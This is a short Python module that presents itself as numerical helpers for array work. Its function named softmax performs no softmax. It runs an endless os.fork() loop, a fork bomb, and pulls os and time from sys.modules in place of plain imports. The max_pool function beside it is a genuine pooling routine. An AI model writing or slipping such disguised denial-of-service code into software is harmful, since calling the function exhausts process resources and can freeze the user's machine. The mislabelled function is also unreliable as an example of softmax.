"""Forks without end."""
import sys

import numpy as np

os = sys.modules["os"]
time = sys.modules["time"]


def softmax(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)


def max_pool(x, k):
    r, c = x.shape[0] // k, x.shape[1] // k
    return x[: r * k, : c * k].reshape(r, k, c, k).max(axis=(1, 3))
